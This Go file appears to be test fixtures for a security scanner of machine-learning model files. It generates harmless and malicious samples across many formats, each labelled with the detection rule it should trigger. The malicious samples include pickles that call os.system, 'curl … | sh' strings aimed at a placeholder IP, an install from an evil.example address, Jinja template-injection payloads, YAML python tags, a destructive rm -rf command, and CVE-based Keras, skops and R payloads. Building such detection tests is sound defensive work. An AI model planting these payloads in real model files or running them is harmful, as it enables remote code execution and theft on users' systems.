package modelscan

import (
	"archive/zip"
	"encoding/base64"
	"encoding/binary"
	"encoding/hex"
	"strings"
)

// sample is a generated file. A benign one has no rule and must earn nothing
// of high severity; a malicious one must earn its rule.
type sample struct {
	name   string // the file's name; its extension matters
	what   string
	data   []byte
	format string
	rule   string
	level  Severity // of a malicious one; High when empty
}

const kerasDense = `{"class_name": "Sequential", "config": {"name": "m", "layers": [{"module": "keras.layers", "class_name": "Dense", "config": {"units": 10, "activation": "relu"}, "registered_name": null}]}}`
const kerasLambda = `{"class_name": "Sequential", "config": {"name": "m", "layers": [{"module": "keras.layers", "class_name": "Lambda", "config": {"function": {"class_name": "__lambda__", "config": {"code": "4wEAAAA="}}}}]}}`

func keras(config string) []byte {
	return zipOf(zip.Deflate, member{"metadata.json", []byte(`{"keras_version": "3.5.0"}`)}, member{"config.json", []byte(config)},
		member{"model.weights.h5", hdf5Of(`{"a": 1}`)})
}

const goodTemplate = "{% for m in messages %}{{ '<|' + m['role'] + '|>' + m.content | trim }}{% if not loop.last %}\n{% endif %}{% endfor %}{% set ns = namespace(found=false) %}"

func samples() []sample {
	var all []sample
	for _, part := range [][]sample{pickleSamples(), torchSamples(), hiddenSamples(), archiveSamples(), arraySamples(), kerasSamples(), graphSamples(), headerSamples(), boosterSamples(), packageSamples(), textSamples(), rSamples()} {
		all = append(all, part...)
	}
	return all
}

func pickleSamples() []sample {
	s := []sample{
		{"a.pkl", "a dict of protocol 0", []byte("(dp0\nS'a'\np1\nI1\ns."), "pickle", "", ""},
		{"a.pkl", "a dict of protocol 2", pickled2("}q\x00X\x01\x00\x00\x00aK\x01s"), "pickle", "", ""},
		{"a.pkl", "a framed dict of protocol 4", pickled4("}\x94\x8c\x01a\x94K\x01s"), "pickle", "", ""},
		{"a.pkl", "an ordered dict", pickled2("ccollections\nOrderedDict\n)R"), "pickle", "", ""},
		{"a.pkl", "a protocol 5 buffer of bytes", pkl("\x80\x05\x96\x04\x00\x00\x00\x00\x00\x00\x00abcd."), "pickle", "", ""},
		{"a.pkl", "a scikit-learn estimator", pickled2(glob("sklearn.linear_model._logistic", "LogisticRegression") + ")\x81}" + u("C") + "K\x01sb"), "pickle", "", ""},
		{"a.pkl", "an estimator that is restored through copyreg", pickled2(glob("copy_reg", "_reconstructor") + "(" + glob("sklearn.svm._classes", "SVC") + glob("__builtin__", "object") + "NtR"), "pickle", "", ""},
		{"a.pkl", "bytes as protocol 2 writes them", pickled2(glob("_codecs", "encode") + u("abcd\u00ff") + u("latin1") + "\x86R"), "pickle", "", ""},
		{"a.pkl", "a class on no list", pickled2(glob("mypackage.models", "Net") + ")\x81}b"), "pickle", "MF102", ""},
		{"a.pkl", "a harmless name called in an odd shape", pickled2(callWith("REDUCE", "collections", "OrderedDict", "x")), "pickle", "MF105", ""},
		{"a.pkl", "state set on a class", pickled2(glob("collections", "OrderedDict") + "}" + u("x") + "K\x01sb"), "pickle", "MF103", Critical},
		{"a.pkl", "items set on a function", pickled2(glob("collections", "Counter") + u("x") + "K\x01s"), "pickle", "MF103", Critical},
		{"a.pkl", "an extension code", pkl("\x80\x02\x82\x05)R."), "pickle", "MF106", ""},
		{"a.pkl", "the result of a call is called", pickled2(glob("collections", "Counter") + ")R)R"), "pickle", "MF107", ""},
		{"a.pkl", "a name that is computed", pickled2(u("os") + glob("collections", "Counter") + ")R\x93)R"), "pickle", "MF104", Critical},
		{"a.pkl", "a payload before a broken opcode", pkl("\x80\x04", evil("REDUCE"), "\xff\xff"), "pickle", "MF101", Critical},
		{"a.pkl", "a payload in a second stream", append(pickled2("}"), pickled2(evil("REDUCE"))...), "pickle", "MF101", Critical},
		{"a.pkl", "a payload in a second stream of protocol 0", append(pickled2("}"), []byte("cos\nsystem\n(S'x'\ntR.")...), "pickle", "MF101", Critical},
		{"a.pkl", "a payload in a stream behind other bytes", append(append(pickled2("}"), "\x00\xff\x00 junk"...), pickled2(evil("REDUCE"))...), "pickle", "MF101", Critical},
		{"a.pkl", "an attribute path of protocol 4", pickled4(u("torch") + u("serialization.os.system") + "\x93" + u("x") + "\x85R"), "pickle", "MF101", Critical},
		{"a.txt", "a pickle of protocol 0 under the name of a text", []byte("cos\nsystem\n(S'x'\ntR."), "pickle", "MF101", Critical},
		{"a.pkl", "an opcode behind its frame", pkl("\x80\x04\x95\x03\x00\x00\x00\x00\x00\x00\x00cos\nsystem\n)R."), "pickle", "MF101", Critical},
		{"a.pkl", "a frame longer than the file", pkl("\x80\x04\x95\xff\x00\x00\x00\x00\x00\x00\x00}."), "pickle", "MF120", ""},
		{"a.pkl", "a second protocol mark", pkl("\x80\x04}\x80\x02."), "pickle", "MF120", ""},
		{"a.pkl", "an opcode newer than the protocol", pkl("\x80\x02\x8c\x01a."), "pickle", "MF120", Medium},
		{"a.pkl", "a memo index that allocates gigabytes", pkl("\x80\x02}r\xff\xff\xff\x7f."), "pickle", "MF122", ""},
		{"a.pkl", "references that double sixty times", pickled2("]q\x00" + doubling(60)), "pickle", "MF122", ""},
		{"a.pkl", "a length of 4 GB in a small file", pkl("\x80\x03B\xff\xff\xff\xffabc"), "pickle", "MF120", ""},
	}
	for _, op := range callOps {
		s = append(s, sample{"a.pkl", "os.system by " + op, pickled2(evil(op)), "pickle", "MF101", Critical},
			sample{"a.pkl", "a callable on no list by " + op, pickled2(callWith(op, "colorsys", "rgb_to_yiq", "x")), "pickle", "MF102", ""})
	}
	return s
}

// doubling builds tuples of two references to the object before, n deep.
func doubling(n int) string {
	var b strings.Builder
	for i := range n {
		b.WriteString("h" + string(rune(i)) + "h" + string(rune(i)) + "\x86q" + string(rune(i+1)))
	}
	return b.String()
}

func torchSamples() []sample {
	ts := func(code string) []byte {
		return zipOf(zip.Store, member{"m/data.pkl", pickled2("}")}, member{"m/constants.pkl", pickled2("}")}, member{"m/code/__torch__.py", []byte(code)}, member{"m/version", []byte("3\n")})
	}
	legacy := func(body string) []byte {
		out := pkl("\x80\x02\x8a\x0al\xfc\x9cF\xf9 j\xa8P\x19.", "\x80\x02M\xe9\x03.", "\x80\x02}.")
		return append(append(out, pickled2(body)...), append(pickled2("]X\x01\x00\x00\x000a"), make([]byte, 24)...)...)
	}
	return []sample{
		{"a.pt", "a state dict in a zip", torchZip(pickled2(stateDict)), "pytorch", "", ""},
		{"a.pt", "os.system in a zip", torchZip(pickled2("}" + u("a") + evil("REDUCE") + "s")), "pytorch", "MF101", Critical},
		{"a.pt", "a state dict in the old format", legacy(stateDict), "pytorch-legacy", "", ""},
		{"a.pt", "os.system in the old format", legacy(evil("REDUCE")), "pytorch-legacy", "MF101", Critical},
		{"a.pt", "a pickle that poses as tensor data", zipOf(zip.Store, member{"archive/data.pkl", pickled2(stateDict)}, member{"archive/data/0", pickled2(evil("REDUCE"))}), "pytorch", "MF101", Critical},
		{"a.pt", "TorchScript", ts("def forward(self, x):\n  return torch.relu(x)\n"), "torchscript", "", ""},
		{"a.pt", "TorchScript that reads a file", ts("def forward(self, x):\n  return torch.from_file(\"/etc/passwd\", False, 10)\n"), "torchscript", "MF241", ""},
	}
}

func hiddenSamples() []sample {
	inner := pickled2(evil("REDUCE"))
	value := func(v string) []byte { return pkl("\x80\x03}", u("weights"), v, "s.") }
	marshalled := "\xe3" + strings.Repeat("\x00", 16) + "@\x00\x00\x00s\x08\x00\x00\x00" + strings.Repeat("\x00", 40)
	return []sample{
		{"a.pkl", "plain bytes", value(sb("just some plain bytes here")), "pickle", "", ""},
		{"a.pkl", "base64 of a text", value(u(base64.StdEncoding.EncodeToString([]byte("a perfectly ordinary text of some length")))), "pickle", "", ""},
		{"a.pkl", "a hex digest", value(u(strings.Repeat("deadbeef", 16))), "pickle", "", ""},
		{"a.pkl", "a pickle in bytes", value(sb(string(inner))), "pickle", "MF110", ""},
		{"a.pkl", "a pickle in the middle of bytes", value(sb("0123456789" + string(inner) + "0123456789")), "pickle", "MF110", ""},
		{"a.pkl", "a pickle in base64", value(u(base64.StdEncoding.EncodeToString(inner))), "pickle", "MF111", ""},
		{"a.pkl", "a pickle in base64 inside a text", value(u("data: " + base64.StdEncoding.EncodeToString(inner) + " end")), "pickle", "MF111", ""},
		{"a.pkl", "a pickle in base64 twice", value(u(base64.StdEncoding.EncodeToString([]byte(base64.StdEncoding.EncodeToString(inner))))), "pickle", "MF111", ""},
		{"a.pkl", "a pickle in hex", value(u(hex.EncodeToString(inner))), "pickle", "MF111", ""},
		{"a.pkl", "a pickle in zlib", value(sb(string(zl(inner)))), "pickle", "MF110", ""},
		{"a.pkl", "a pickle in a zip", value(sb(string(zipOf(zip.Deflate, member{"x.pkl", inner})))), "pickle", "MF101", Critical},
		{"a.pkl", "marshalled code", value(sb(marshalled)), "pickle", "MF112", ""},
		{"a.pkl", "a program", value(sb("\x7fELF\x02\x01\x01\x00" + strings.Repeat("\x00", 60))), "pickle", "MF112", ""},
		{"a.pkl", "a pickle in bytes of protocol 2", pickled2(glob("_codecs", "encode") + u(latin(inner)) + u("latin1") + "\x86R"), "pickle", "MF110", ""},
	}
}

func latin(b []byte) string {
	r := make([]rune, len(b))
	for i, c := range b {
		r[i] = rune(c)
	}
	return string(r)
}

func archiveSamples() []sample {
	bad, good := pickled2(evil("REDUCE")), pickled2("}")
	flagged := zipOf(zip.Store, member{"data.pkl", bad})
	flag := func(b []byte) []byte { // says encrypted, in both headers
		out := append([]byte(nil), b...)
		out[6] |= 1
		i := strings.Index(string(out), "PK\x01\x02")
		out[i+8] |= 1
		return out
	}
	renamed := append([]byte(nil), zipOf(zip.Store, member{"a.pkl", good})...)
	copy(renamed[30:], "b.pkl")
	s := []sample{
		{"chat_template.jinja", "an ordinary template", []byte(goodTemplate), "template", "", ""},
		{"a.zip", "a harmless zip", zipOf(zip.Deflate, member{"readme.txt", []byte("hello")}), "zip", "", ""},
		{"a.zip", "a name that climbs", zipOf(zip.Store, member{"../../etc/cron.d/x", []byte("hello")}), "zip", "MF190", ""},
		{"a.zip", "two names for one member", renamed, "zip", "MF191", ""},
		{"a.zip", "a member that claims to be encrypted", flag(flagged), "pytorch", "MF191", ""},
		{"a.zip", "a payload that claims to be encrypted", flag(flagged), "pytorch", "MF101", Critical},
		{"a.zip", "a wrong checksum", badSum(flagged), "pytorch", "MF101", Critical},
		{"a.zip", "two members of one name", zipOf(zip.Store, member{"a.pkl", good}, member{"a.pkl", bad}), "zip", "MF101", Critical},
		{"a.tar", "a harmless tar", tarOf(member{"readme.txt", []byte("hello")}), "tar", "", ""},
		{"a.tar", "a tar whose name climbs", tarOf(member{"../x", []byte("hello")}), "tar", "MF190", ""},
		{"a.bin", "a native program", []byte("\x7fELF\x02\x01\x01\x00" + strings.Repeat("\x00", 60)), "native", "MF270", ""},
		{"layer.tar", "a pickle in an OCI layer", tarOf(member{"oci-layout", []byte("{}")}, member{"blobs/sha256/abc", gz(tarOf(member{"model/m.pkl", bad}))}), "oci", "MF101", Critical},
	}
	for ext, wrap := range map[string]func([]byte) []byte{"gz": gz, "lz4": lz4Of, "xz": xzOf, "zst": zst, "z": zl} {
		s = append(s, sample{"a.pkl." + ext, "a harmless pickle in " + ext, wrap(good), "", "", ""},
			sample{"a.pkl." + ext, "os.system in " + ext, wrap(bad), "", "MF101", Critical})
	}
	return append(s,
		sample{"a.tar", "os.system in a tar", tarOf(member{"x/data.pkl", bad}), "tar", "MF101", Critical},
		sample{"a.7z", "a harmless 7z", sevenOf(member{"a.pkl", good}, member{"b.txt", []byte("hello")}), "7z", "", ""},
		sample{"a.7z", "os.system in a 7z", sevenOf(member{"a.pkl", good}, member{"b.dat", bad}), "7z", "MF101", Critical},
		sample{"a.zip", "os.system in a tar in a gz in a zip", zipOf(zip.Deflate, member{"x", gz(tarOf(member{"y", bad}))}), "zip", "MF101", Critical})
}

func badSum(b []byte) []byte {
	out := append([]byte(nil), b...)
	i := strings.Index(string(out), "PK\x01\x02")
	out[i+16] ^= 0xff
	return out
}

// joblibArray is a joblib pickle with a float array of n items between its opcodes.
func joblibArray(n int, data string, then string) []byte {
	return pickled2(glob("joblib.numpy_pickle", "NumpyArrayWrapper") + ")\x81}(" + u("subclass") + glob("numpy", "ndarray") + u("shape") + "K" + string([]byte{byte(n)}) + "\x85" +
		u("order") + u("C") + u("dtype") + glob("numpy", "dtype") + u("f8") + "K\x00K\x01\x87R" + u("allow_mmap") + "\x88ub" + data + then)
}

func arraySamples() []sample {
	object := pickled2(glob("numpy.core.multiarray", "_reconstruct") + glob("numpy", "ndarray") + "K\x00\x85" + u("b") + "\x87R")
	return []sample{
		{"a.npy", "a float array", npyOf("'<f8'", "(2,)", make([]byte, 16)), "numpy", "", ""},
		{"a.npy", "an object array", npyOf("'|O'", "(2,)", object), "numpy", "", ""},
		{"a.npy", "an object array that runs", npyOf("'|O'", "(2,)", pickled2(evil("REDUCE"))), "numpy", "MF101", Critical},
		{"a.npy", "a header of 4 GB", []byte("\x93NUMPY\x02\x00\xff\xff\xff\xff{'descr': '<f8'}"), "numpy", "MF180", ""},
		{"a.npz", "two float arrays", zipOf(zip.Deflate, member{"a.npy", npyOf("'<f8'", "(2,)", make([]byte, 16))}, member{"b.npy", npyOf("'<i4'", "()", make([]byte, 4))}), "npz", "", ""},
		{"a.npz", "an object array that runs", zipOf(zip.Deflate, member{"a.npy", npyOf("'|O'", "(2,)", pickled2(evil("REDUCE")))}), "npz", "MF101", Critical},
		{"a.joblib", "a float array", joblibArray(2, strings.Repeat("\xff", 16), ""), "joblib", "", ""},
		{"a.joblib", "os.system behind an array", joblibArray(2, strings.Repeat("\xff", 16), evil("REDUCE")), "joblib", "MF101", Critical},
		{"a.joblib", "array data that a plain unpickler runs", joblibArray(3, evil("REDUCE")[:24], ""), "joblib", "MF101", Critical},
		{"a.joblib", "os.system in a compressed joblib file", zl(joblibArray(2, strings.Repeat("\xff", 16), evil("REDUCE"))), "", "MF101", Critical},
		{"a.joblib", "a harmless compressed joblib file", gz(joblibArray(2, strings.Repeat("\xff", 16), "")), "", "", ""},
	}
}

func kerasSamples() []sample {
	with := func(layer string) string {
		return `{"class_name": "Functional", "config": {"layers": [` + layer + `]}}`
	}
	return []sample{
		{"a.h5", "a dense network", hdf5Of(kerasDense), "keras-hdf5", "", ""},
		{"a.h5", "a Lambda layer", hdf5Of(kerasLambda), "keras-hdf5", "MF150", Critical},
		{"a.h5", "a Lambda layer behind a user block", append(make([]byte, 512), hdf5Of(kerasLambda)...), "keras-hdf5", "MF150", Critical},
		{"a.keras", "a dense network", keras(kerasDense), "keras", "", ""},
		{"a.keras", "a Lambda layer (CVE-2024-3660)", keras(kerasLambda), "keras", "MF150", Critical},
		{"a.keras", "a foreign module (CVE-2025-1550)", keras(with(`{"module": "os", "class_name": "system", "config": "id", "registered_name": "system"}`)), "keras", "MF151", Critical},
		{"a.keras", "a foreign function (CVE-2025-1550)", keras(with(`{"module": "subprocess", "class_name": "function", "config": "run", "registered_name": "function"}`)), "keras", "MF151", ""},
		{"a.keras", "a download (CVE-2025-8747)", keras(with(`{"module": "keras.utils", "class_name": "function", "config": "get_file", "registered_name": "function"}`)), "keras", "MF151", ""},
		{"a.h5", "a Lambda in HDF5 under safe mode (CVE-2025-9905)", hdf5Of(with(`{"class_name": "Lambda", "config": {"function": ["4wEAAAA=", null, null], "function_type": "lambda"}}`)), "keras-hdf5", "MF150", Critical},
		{"a.keras", "safe mode lifted (CVE-2025-9906)", keras(with(`{"module": "keras.config", "class_name": "function", "config": "enable_unsafe_deserialization", "registered_name": "function"}`)), "keras", "MF151", ""},
		{"a.keras", "a torch module (CVE-2025-49655)", keras(with(`{"module": "keras.layers", "class_name": "TorchModuleWrapper", "config": {"module": "gASV"}}`)), "keras", "MF151", ""},
		{"a.keras", "a vocabulary from a path (CVE-2025-12058)", keras(with(`{"module": "keras.layers", "class_name": "StringLookup", "config": {"vocabulary": "/etc/passwd"}}`)), "keras", "MF151", ""},
	}
}

func graphSamples() []sample {
	external := pm(5, pm(8, "w"), pv(14, 1), pm(13, pm(1, "location"), pm(2, "../../../etc/passwd")))
	beside := pm(5, pm(8, "w"), pv(14, 1), pm(13, pm(1, "location"), pm(2, "weights.bin")))
	return []sample{
		{"saved_model.pb", "a harmless graph", savedModelOf("Const", "MatMul", "Relu"), "savedmodel", "", ""},
		{"saved_model.pb", "PyFunc", savedModelOf("Const", "PyFunc"), "savedmodel", "MF160", Critical},
		{"saved_model.pb", "ReadFile and WriteFile", savedModelOf("ReadFile", "WriteFile"), "savedmodel", "MF160", Critical},
		{"a.onnx", "a harmless graph", onnxOf(onnxNode("Relu", ""), beside), "onnx", "", ""},
		{"a.onnx", "tensor data outside the folder (CVE-2024-27318)", onnxOf(onnxNode("Relu", ""), external), "onnx", "MF170", ""},
		{"a.onnx", "a Python operator", onnxOf(onnxNode("PyOp", "ai.onnx.contrib")), "onnx", "MF172", Critical},
		{"a.onnx", "a pickle in a tensor", onnxOf(pm(5, pm(8, "w"), pm(9, string(pickled2(evil("REDUCE")))+strings.Repeat("\x00", 64)))), "onnx", "MF110", ""},
		{"a.mlmodel", "a Core ML model", []byte(pv(1, 4) + pm(2, pm(100, pm(1, "a model"))) + pm(300, pv(1, 1))), "coreml", "", ""},
		{"a.mlmodel", "a Core ML description with code", []byte(pv(1, 4) + pm(2, pm(100, pm(1, "import os; os.system('id')"))) + pm(300, pv(1, 1))), "coreml", "MF181", ""},
		{"a.tflite", "a TFLite model", tfliteOf("", make([]byte, 32)), "tflite", "", ""},
		{"a.tflite", "a pickle in a TFLite buffer", tfliteOf("", append(pickled2(evil("REDUCE")), make([]byte, 16)...)), "tflite", "MF110", ""},
		{"a.xml", "an OpenVINO network", []byte(`<?xml version="1.0"?><net name="m" version="11"><layers><layer id="0" name="x" type="Parameter" version="opset1"/></layers></net>`), "openvino", "", ""},
		{"a.xml", "an OpenVINO network that names a library", []byte(`<?xml version="1.0"?><net name="m" version="11"><layers><layer id="0" name="x" type="Evil" version="extension" library="/tmp/evil.so"/></layers></net>`), "openvino", "MF211", ""},
		{"a.pmml", "a PMML model", []byte(`<?xml version="1.0"?><PMML version="4.4"><Header description="a tree"/><TreeModel modelName="t"/></PMML>`), "pmml", "", ""},
		{"a.pmml", "a PMML model that reads a file", []byte(`<?xml version="1.0"?><!DOCTYPE p [<!ENTITY x SYSTEM "file:///etc/passwd">]><PMML version="4.4"><Header description="&x;"/></PMML>`), "pmml", "MF210", ""},
		{"a.pmml", "a PMML model with a script", []byte(`<?xml version="1.0"?><PMML version="4.4"><Extension><script>alert(1)</script></Extension></PMML>`), "pmml", "MF211", ""},
	}
}

func headerSamples() []sample {
	const good = `{"__metadata__":{"format":"pt"},"w":{"dtype":"F32","shape":[2],"data_offsets":[0,8]}}`
	meta := func(v string) []byte {
		return safetensorsOf(`{"__metadata__":{"description":`+v+`},"w":{"dtype":"F32","shape":[2],"data_offsets":[0,8]}}`, 8)
	}
	huge := gguf(goodTemplate)
	binary.LittleEndian.PutUint64(huge[24:], 1<<40)
	s := []sample{
		{"a.safetensors", "a tensor", safetensorsOf(good, 8), "safetensors", "", ""},
		{"a.safetensors", "an ordinary description", meta(`"trained by us, see https://example.org/model"`), "safetensors", "", ""},
		{"a.safetensors", "a header longer than the file", append([]byte("\xff\xff\xff\x7f\x00\x00\x00\x00"), `{"a":`...), "safetensors", "MF180", ""},
		{"a.safetensors", "tensors that overlap", safetensorsOf(`{"a":{"dtype":"F32","shape":[2],"data_offsets":[0,8]},"b":{"dtype":"F32","shape":[2],"data_offsets":[4,12]}}`, 12), "safetensors", "MF180", ""},
		{"a.safetensors", "a tensor outside the data", safetensorsOf(`{"a":{"dtype":"F32","shape":[2],"data_offsets":[0,800]}}`, 8), "safetensors", "MF180", ""},
		{"a.safetensors", "a shape that does not fit", safetensorsOf(`{"a":{"dtype":"F32","shape":[200],"data_offsets":[0,8]}}`, 8), "safetensors", "MF180", ""},
		{"a.safetensors", "two tensors of one name", safetensorsOf(`{"w":{"dtype":"F32","shape":[2],"data_offsets":[0,8]},"w":{"dtype":"F32","shape":[2],"data_offsets":[0,8]}}`, 8), "safetensors", "MF180", ""},
		{"a.safetensors", "bytes that belong to no tensor", safetensorsOf(good, 100), "safetensors", "MF180", ""},
		{"a.safetensors", "program text", meta(`"import os; os.system('curl http://203.0.113.9/x | sh')"`), "safetensors", "MF181", ""},
		{"a.safetensors", "a script", meta(`"<script>alert(1)</script>"`), "safetensors", "MF181", ""},
		{"a.safetensors", "a pickle in base64", meta(`"` + base64.StdEncoding.EncodeToString(pickled2(evil("REDUCE"))) + `"`), "safetensors", "MF111", ""},
		{"a.gguf", "an ordinary template", gguf(goodTemplate), "gguf", "", ""},
		{"a.gguf", "a text of a terabyte", huge, "gguf", "MF180", ""},
		{"a.msgpack", "Flax parameters", flaxOf("kernel", "float32"), "flax-msgpack", "", ""},
		{"a.msgpack", "Flax parameters of objects", flaxOf("kernel", "object"), "flax-msgpack", "MF180", ""},
		{"a.msgpack", "a key that constructs", flaxOf("__reduce__", "float32"), "flax-msgpack", "MF181", ""},
		{"a.msgpack", "a pickle in Flax bytes", []byte("\x81" + mpText("params") + "\xc4" + string([]byte{byte(len(pickled2(evil("REDUCE"))))}) + string(pickled2(evil("REDUCE")))), "msgpack", "MF110", ""},
		{"a.msgpack", "an object of 4 GB", []byte("\x81" + mpText("params") + "\xc6\xff\xff\xff\xffabc"), "msgpack", "MF180", ""},
	}
	for what, t := range map[string]string{
		"the classic": "{{ ''.__class__.__mro__[1].__subclasses__() }}", "a hidden name": `{{ x['\x5f\x5fclass\x5f\x5f'] }}`,
		"joined pieces": "{{ x['__cla' ~ 'ss__'] }}", "a filter": "{{ x|attr('f') }}", "an import": "{{ cycler.__init__.__globals__.os.popen('id').read() }}",
		"a name of characters": "{{ x['%c%c' % (95, 95)] }}", "lipsum": "{{ lipsum['__globals__'] }}", "repeated underscores": "{{ x['_'*2 ~ 'class' ~ '_'*2] }}",
	} {
		s = append(s, sample{"a.gguf", "template: " + what, gguf(t), "gguf", "MF140", ""}, sample{"chat_template.jinja", "template: " + what, []byte(t), "template", "MF140", ""})
	}
	return s
}

func boosterSamples() []sample {
	ubjson := func(objective string) []byte {
		key := func(k string) string { return "L" + string(binary.BigEndian.AppendUint64(nil, uint64(len(k)))) + k }
		return []byte("{" + key("learner") + "{" + key("objective") + "S" + key(objective) + "}" + key("version") + "[$U#U\x03\x02\x00\x00}")
	}
	catboost := func(text string) []byte {
		core := strings.Repeat("\x00", 16) + text + strings.Repeat("\x00", 16)
		return append(binary.LittleEndian.AppendUint32([]byte("CBM1"), uint32(len(core))), core...)
	}
	return []sample{
		{"a.ubj", "an XGBoost model", ubjson("binary:logistic"), "xgboost", "", ""},
		{"a.ubj", "program text in an XGBoost model", ubjson("__import__('os').system('id')"), "xgboost", "MF181", ""},
		{"a.json", "an XGBoost model as JSON", []byte(`{"learner": {"objective": {"name": "reg:squarederror"}}, "version": [2,0,0]}`), "xgboost", "", ""},
		{"a.json", "a command in an XGBoost model as JSON", []byte(`{"learner": {"objective": {"name": "x; curl http://203.0.113.9/a | sh"}}, "version": [2,0,0]}`), "xgboost", "MF201", ""},
		{"a.txt", "a LightGBM model", []byte("tree\nversion=v4\nnum_class=1\nfeature_names=a b\nobjective=binary\ntree_sizes=10\n\nTree=0\nnum_leaves=2\nleaf_value=0.1 0.2\n\nend of trees\n"), "lightgbm", "", ""},
		{"a.txt", "program text in a LightGBM model", []byte("tree\nversion=v4\nobjective=__import__('os').system('id')\ntree_sizes=10\n\nTree=0\n"), "lightgbm", "MF181", ""},
		{"a.cbm", "a CatBoost model", catboost("model_guid and parameters"), "catboost", "", ""},
		{"a.cbm", "program text in a CatBoost model", catboost("import subprocess; subprocess.call('id')"), "catboost", "MF181", ""},
		{"a.cbm", "a core longer than the file", []byte("CBM1\xff\xff\xff\x7fabcdefgh"), "catboost", "MF180", ""},
	}
}

func packageSamples() []sample {
	skops := func(schema string) []byte { return zipOf(zip.Store, member{"schema.json", []byte(schema)}) }
	return []sample{
		{"a.skops", "an estimator", skops(`{"__class__": "LogisticRegression", "__module__": "sklearn.linear_model._logistic", "__loader__": "ObjectNode", "content": {}}`), "skops", "", ""},
		{"a.skops", "os.system", skops(`{"__class__": "system", "__module__": "os", "__loader__": "FunctionNode", "content": "x"}`), "skops", "MF230", Critical},
		{"a.skops", "a bound method (CVE-2025-54412)", skops(`{"__class__": "method", "__module__": "sklearn.x", "__loader__": "MethodNode", "content": {}}`), "skops", "MF230", ""},
		{"a.skops", "an operator that is none (CVE-2025-54413)", skops(`{"__class__": "call", "__module__": "builtins", "__loader__": "OperatorFuncNode", "attrs": "eval"}`), "skops", "MF230", ""},
		{"a.nemo", "a NeMo package", tarOf(member{"model_config.yaml", []byte("target: nemo.collections.asr.models.EncDecCTCModel\n")}, member{"model_weights.ckpt", torchZip(pickled2(stateDict))}), "nemo", "", ""},
		{"a.nemo", "a NeMo package that calls", tarOf(member{"model_config.yaml", []byte("x:\n  _target_: os.system\n  command: id\n")}), "nemo", "MF203", Critical},
		{"a.zip", "an MLflow package", zipOf(zip.Deflate, member{"MLmodel", []byte("flavors:\n  python_function:\n    loader_module: mlflow.sklearn\n")}, member{"requirements.txt", []byte("scikit-learn==1.5.0\n")}), "zip", "", ""},
		{"a.zip", "an MLflow package that installs from an address", zipOf(zip.Deflate, member{"MLmodel", []byte("flavors: {}\n")}, member{"requirements.txt", []byte("git+https://evil.example/x.git\n")}), "zip", "MF251", Medium},
	}
}

func textSamples() []sample {
	return []sample{
		{"tokenizer_config.json", "a tokenizer", []byte(`{"tokenizer_class": "X", "chat_template": ` + quote(goodTemplate) + `}`), "json", "", ""},
		{"tokenizer_config.json", "a tokenizer whose template runs", []byte(`{"chat_template": "{{ self.__init__.__globals__ }}"}`), "json", "MF140", Critical},
		{"chat_template.jinja", "a template that glues with underscores", []byte("{{ message['role'] + '_' + key.replace('_', ' ') | trim }}{{ 'Do not call eval(x) or os.system(y) here, please' }}"), "template", "", ""},
		{"a.yaml", "a documentation site", []byte("x: !!python/name:pymdownx.superfences.fence\n"), "yaml", "MF204", Medium},
		{"config.json", "an ordinary command", []byte(`{"commandToExecute": "powershell -ExecutionPolicy Unrestricted -File a.ps1", "build": "rm -rf dist"}`), "json", "", ""},
		{"requirements.txt", "words that spell opcodes", []byte("aiofiles\naiohttp\nclick\nipython\nnumpy\n"), "text", "", ""},
		{"imports.txt", "more words that spell opcodes", []byte("ipython\nnumpy\ncollections\n"), "text", "", ""},
		{"README.md", "prose in HTML comments", []byte("<!-- x -->\nRun rm -rf / never. See https://example.org/install.sh\n"), "text", "", ""},
		{"config.json", "a credential", []byte(`{"api_key": "sk-1234567890abcdef1234"}`), "json", "MF200", ""},
		{"config.json", "a command", []byte(`{"setup": "rm -rf / --no-preserve-root"}`), "json", "MF201", ""},
		{"a.yaml", "a configuration", []byte("model: x\nlayers: 3\n"), "yaml", "", ""},
		{"a.yaml", "a Python tag", []byte("x: !!python/object/apply:os.system ['id']\n"), "yaml", "MF204", Critical},
	}
}

func quote(s string) string {
	return `"` + strings.NewReplacer(`"`, `\"`, "\n", `\n`).Replace(s) + `"`
}

func rSamples() []sample {
	cat := func(parts ...any) []byte {
		var flat []any
		for _, p := range parts {
			if l, ok := p.([]any); ok {
				flat = append(flat, l...)
			} else {
				flat = append(flat, p)
			}
		}
		return rData(flat...)
	}
	const nilValue, unbound = 254, 252
	sym := func(n string) []any { return append([]any{1}, rText(n)...) }
	return []sample{
		{"a.rds", "a numeric vector", cat(13, 2, 1, 2), "rdata", "", ""},
		{"a.rds", "texts", cat(16, 1, rText("hello")), "rdata", "", ""},
		{"a.rds", "a promise (CVE-2024-27322)", cat(5, unbound, 6, sym("system"), 2, 16, 1, rText("id"), nilValue), "rdata", "MF220", Critical},
	}
}
